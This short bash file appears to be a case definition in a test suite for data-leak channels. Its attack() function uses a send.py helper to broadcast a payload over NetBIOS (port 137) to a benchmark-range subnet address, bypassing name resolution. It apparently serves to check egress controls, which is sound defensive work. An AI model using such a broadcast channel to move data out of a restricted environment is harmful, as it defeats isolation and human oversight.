# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='A broadcast of the subnet (NetBIOS), to a listener on the same link'
origin='issue 4; RESEARCH §2.44'
reason='not_resolved|link_local_names'
sink=g forms='output run'
attack() { tool send.py group 198.18.1.255 137 "$1"; }
